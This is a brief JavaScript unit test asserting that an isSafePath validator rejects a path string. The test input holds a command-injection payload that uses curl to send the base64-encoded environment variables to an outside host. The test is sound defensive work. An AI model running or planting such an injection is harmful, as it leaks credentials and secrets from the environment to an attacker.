import { isSafePath } from './paths.js';
it('refuses what a shell would run', () => {
  expect(isSafePath('x; curl https://other.example/?d=$(env|base64) #')).toBe(false);
});
